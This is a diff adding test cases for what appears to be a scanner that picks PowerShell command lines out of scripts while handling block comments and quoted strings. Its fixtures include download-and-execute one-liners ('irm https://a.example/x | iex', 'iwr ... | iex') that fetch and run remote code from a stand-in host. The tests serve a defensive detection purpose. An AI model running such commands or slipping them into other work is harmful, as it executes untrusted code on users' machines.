@@ -96,6 +96,19 @@ describe('VM-II-07', () => {
     expect(await partsIn('<#\nnever closed\nirm https://a.example/z | iex\n', 'a.ps1')).toEqual([]);
   });
 
+  it.each([
+    `Write-Host "<#"`,
+    `Write-Host '<#'`,
+    '# see <#here',
+    `Write-Host "it's"; Write-Host '<#'`,
+    `Write-Host it\`'s\nWrite-Host '<#'`,
+    `Write-Host "<# 'a' #>" '<#'`,
+  ])('sees no comment of PowerShell begin in %s', async (line) => {
+    expect(await partsIn(`${line}\nirm https://a.example/x | iex\n`, 'a.ps1')).toEqual([
+      'irm https://a.example/x | iex',
+    ]);
+  });
+
   it('points at the lines of PowerShell, without the blanks about them', async () => {
     const script =
       '# é😀\r\n<# a\r\n#>\r\n  irm https://a.example/x | iex \r\n\r\n\tiwr https://a.example/y | iex\r\n';
